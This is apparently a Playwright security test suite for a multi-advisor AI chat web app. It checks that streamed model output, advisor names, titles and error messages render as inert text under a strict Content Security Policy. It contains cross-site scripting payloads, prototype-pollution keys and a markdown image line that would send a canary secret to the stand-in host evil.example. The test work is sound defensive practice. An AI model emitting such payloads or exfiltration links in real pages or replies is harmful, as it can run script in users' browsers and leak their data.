/** Words that were written to hurt, through the real page: said by voices, and as names of everything . */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Page, Request } from '@playwright/test';
import { CORPUS, HEAVY } from '../src/views/markdown/corpus';
import { turn } from './desk';
import { expect, test } from './fixtures';
import type { House } from './house';
import { postLookout, readLookout } from './lookout';
import type { Provider } from './provider';

const CLIENT = fileURLToPath(new URL('../../src/antiphon/browser', import.meta.url));
const SECRET = 'canary-5d1f0c7a';
const SEATS = 5;

/** Pieces of one to seven characters, the same ones every time. */
function inCrumbs(text: string): string[] {
  const crumbs: string[] = [];
  for (let at = 0, step = 3; at < text.length; at += step) {
    step = ((step * 5 + 3) % 7) + 1;
    crumbs.push(text.slice(at, at + step));
  }
  return crumbs;
}

/** Five advisors of hostile names; each finds its own words by what is in its description. */
async function seatStrangers(house: House): Promise<{ panelId: string; names: string[] }> {
  const names = [
    '<img src=x onerror=alert(1)>',
    '[a](javascript:alert(2))',
    '"><script>alert(3)</script>',
    '__proto__',
    '\u202e#{alert(5)}{{7*7}}',
  ];
  const made = [];
  for (const [seat, name] of names.entries()) {
    const body = { name, tagline: `<svg onload=alert(${seat})>`, description: `You are seat-${seat}.` };
    made.push(await house.ask<{ id: string; name: string }>('POST', '/v1/advisors', body));
  }
  const advisor_ids = made.map((each) => each.id);
  const panel = await house.ask<{ id: string }>('POST', '/v1/panels', {
    name: '<b onclick=alert(1)>Strangers</b>',
    advisor_ids,
    early_turns: 0,
  });
  return { panelId: panel.id, names: made.map((each) => each.name) };
}

function tellSeats(
  provider: Provider,
  says: (seat: number) => readonly string[],
  thinks: readonly string[] = [],
): void {
  provider.voices = Object.fromEntries(
    Array.from({ length: SEATS }, (_, seat) => [`seat-${seat}`, { says: says(seat), thinks, pace: 1 }]),
  );
}

/** Everything that leaves for somewhere else, and everything that jumps at the person. */
function watchDoors(page: Page, house: House): string[] {
  const seen: string[] = [];
  const note = (request: Request) => {
    if (new URL(request.url()).origin !== house.url && !/^(blob|data):/.test(request.url()))
      seen.push(`asked ${request.url()} ${request.postData() ?? ''}`);
  };
  page.context().on('request', note);
  page.context().on('page', (opened) => seen.push(`opened ${opened.url()}`));
  page.on('websocket', (socket) => seen.push(`socket ${socket.url()}`));
  page.on('dialog', (dialog) => {
    seen.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  return seen;
}

async function say(page: Page, position: number, text: string): Promise<void> {
  await page.getByRole('textbox', { name: 'Your message' }).fill(text);
  await page.keyboard.press('Enter');
  await expect(turn(page, position)).toBeVisible();
}

async function untilAnswered(page: Page): Promise<void> {
  await expect(page.locator('.turn.now .reply[data-state="complete"]')).toHaveCount(SEATS, { timeout: 90_000 });
}

async function begin(house: House, panelId: string, title: string): Promise<string> {
  const body = { panel_id: panelId, title };
  return (await house.ask<{ id: string }>('POST', '/v1/conversations', body)).id;
}

test('I-56 X-01 X-02 X-10: words that arrive in crumbs become nothing but words', async ({ house, provider, page }) => {
  test.slow();
  const doors = watchDoors(page, house);
  await postLookout(page);
  const { panelId } = await seatStrangers(house);
  const id = await begin(house, panelId, 'Crumbs');
  await page.goto(`${house.url}/c/${id}`);

  const leak = `![](https://evil.example/?q=${SECRET}) <img src="https://evil.example/${SECRET}">`;
  const thoughts = inCrumbs(`${leak}\n\n<script>alert(9)</script>`);
  tellSeats(provider, (seat) => inCrumbs(CORPUS.filter((_, at) => at % SEATS === seat).join('\n\n')), thoughts);
  await say(page, 1, `Remember ${SECRET}. <script>alert(0)</script> ${leak}`);
  await untilAnswered(page);
  const backwards = [...CORPUS].reverse();
  tellSeats(provider, (seat) => inCrumbs(backwards.filter((_, at) => at % SEATS === seat).join(' ')));
  await say(page, 2, 'And without lines in between?');
  await untilAnswered(page);

  const { foreign, looked } = await readLookout(page);
  expect(foreign).toEqual([]);
  expect(looked).toBeGreaterThan(300);
  expect(doors).toEqual([]);
  expect(page.url()).toBe(`${house.url}/c/${id}`);
  await expect(page.locator('.turn.now .say').first()).toContainText('alert(1)');
  // What is allowed is there: formulas are set, code is coloured, and both under the policy.
  await expect(page.locator('.turn.now math').first()).toBeVisible();

  await page.reload();
  await expect(page.locator('.turn.now .reply .md').first()).toBeVisible();
  const kept = await readLookout(page);
  expect(kept.foreign).toEqual([]);
  expect(kept.looked).toBeGreaterThan(50);
  expect(doors).toEqual([]);
});

test('I-56: words that were written to be slow leave the page awake', async ({ house, provider, page }) => {
  test.slow();
  const doors = watchDoors(page, house);
  await postLookout(page);
  const { panelId } = await seatStrangers(house);
  const id = await begin(house, panelId, 'Heavy');
  await page.goto(`${house.url}/c/${id}`);

  tellSeats(provider, (seat) => {
    const beginnings = HEAVY.filter((_, at) => at % SEATS === seat).map(([, text]) => text.slice(0, 200));
    return inCrumbs(beginnings.join('\n\n').toWellFormed());
  });
  await say(page, 1, 'Begin all of them.');
  await untilAnswered(page);
  const whole = new Map(HEAVY);
  const worst = ['one word', 'wide table', 'quotes', 'list levels', 'powers in a formula'];
  tellSeats(provider, (seat) => (whole.get(worst[seat] ?? '') ?? '').match(/[\s\S]{1,2000}/g) ?? []);
  await say(page, 2, 'And these to the end.');
  await untilAnswered(page);

  await page.getByRole('textbox', { name: 'Your message' }).fill('Still here?');
  await expect(page.getByRole('button', { name: 'Send', exact: true })).toBeEnabled();
  expect((await readLookout(page)).foreign).toEqual([]);
  expect(doors).toEqual([]);
});

test('X-08: names, titles, topics, models and errors are never more than text', async ({ house, provider, page }) => {
  test.slow();
  const doors = watchDoors(page, house);
  await postLookout(page);
  const evil = '<img src=x onerror=alert(1)>';
  const { panelId, names } = await seatStrangers(house);
  const id = await begin(house, panelId, `${evil} title ${SECRET}`);
  await house.ask('POST', '/v1/topics', { path: '/<svg onload=alert(1)>' });
  await house.ask('PATCH', `/v1/conversations/${id}`, { topic: '/<svg onload=alert(1)>' });
  await house.ask('PUT', '/v1/filters/__proto__', { line: 's>=1' });
  await expect(house.ask('PUT', `/v1/filters/${encodeURIComponent(evil)}`, { line: 's>=1' })).rejects.toThrow('422');
  const { items: advisors } = await house.ask<{ items: { id: string; name: string }[] }>('GET', '/v1/advisors');
  const proto = advisors.find((each) => each.name === '__proto__');
  await house.ask('PATCH', `/v1/advisors/${proto?.id}`, { model: 'stage:<img/src=x/onerror=alert(1)>' });
  tellSeats(provider, () => [`${evil} said`]);
  const body = { error: { message: `${evil} [x](javascript:alert(1)) ${SECRET}`, type: evil, code: evil } };
  provider.voices['seat-1'] = { says: [], fails: { status: 400, body } };

  await page.goto(`${house.url}/c/${id}`);
  await page.getByRole('textbox', { name: 'Your message' }).fill(`${evil} asked`);
  await page.keyboard.press('Enter');
  await expect(page.locator('.reply[data-state="error"]')).toContainText('[x](javascript:alert(1))');
  await expect(page.locator('.reply[data-state="complete"]')).toHaveCount(SEATS - 1);
  for (const name of names) await expect(page.locator('.reply h3').filter({ hasText: name }).first()).toBeVisible();
  await expect(page.getByRole('complementary', { name: 'Library' })).toContainText(`${evil} title`);
  await expect(page.getByRole('complementary', { name: 'Library' })).toContainText('<svg onload=alert(1)>');

  await page
    .locator('.reply', { hasText: '__proto__' })
    .getByRole('button', { name: /^Sent / })
    .click();
  const inspector = page.getByRole('region', { name: 'Inspector' });
  await expect(inspector.getByRole('heading', { name: 'What __proto__ was sent' })).toBeVisible();
  for (const form of ['Provider form', 'Raw bytes', 'Plain'])
    await inspector.getByRole('button', { name: form }).click();
  await expect(inspector).toContainText('onerror=alert(1)');
  await inspector.getByRole('button', { name: 'Close', exact: true }).click();

  await page.keyboard.press('Control+k');
  await page.keyboard.type('alert');
  await expect(page.getByRole('option').filter({ hasText: evil }).first()).toBeVisible();
  await page.keyboard.press('Escape');
  await page.getByRole('searchbox', { name: 'Search everything that was said' }).fill('onerror');
  await expect(page.locator('.found mark').first()).toBeVisible();
  await page.getByRole('button', { name: 'Build' }).click();
  await expect(page.getByText('@__proto__')).toBeVisible();
  for (const place of ['advisors', 'panels', 'topics', 'settings']) {
    await page.goto(`${house.url}/${place}`);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect((await readLookout(page)).foreign).toEqual([]);
  }
  await page.goto(`${house.url}/advisors/${proto?.id}`);
  await expect(page.getByRole('textbox', { name: 'Name', exact: true })).toHaveValue('__proto__');
  expect((await readLookout(page)).foreign).toEqual([]);
  expect(doors).toEqual([]);
  expect(await page.evaluate(() => Object.keys(Object.prototype))).toEqual([]);
});

test('X-01 X-09: the page is served with the strict policy, and nothing it is made of needs a looser one', async ({
  house,
}) => {
  const page = await fetch(`${house.url}/`);
  const policy = page.headers.get('content-security-policy') ?? '';
  for (const source of ["default-src 'none'", "script-src 'self'", "style-src 'self'", "connect-src 'self'"])
    expect(policy.split('; ')).toContain(source);
  expect(policy).toContain("require-trusted-types-for 'script'");
  expect(policy).not.toContain('unsafe');
  expect(await page.text()).not.toMatch(/<style|<script(?![^>]*\bsrc=)|\son\w+=|https?:/);

  const assets = join(CLIENT, 'assets');
  const scripts = readdirSync(assets).filter((name) => name.endsWith('.js'));
  expect(scripts.length).toBeGreaterThan(5);
  for (const name of scripts)
    expect(readFileSync(join(assets, name), 'utf8'), name).not.toMatch(/\beval\(|new Function\b|document\.write\(/);
});
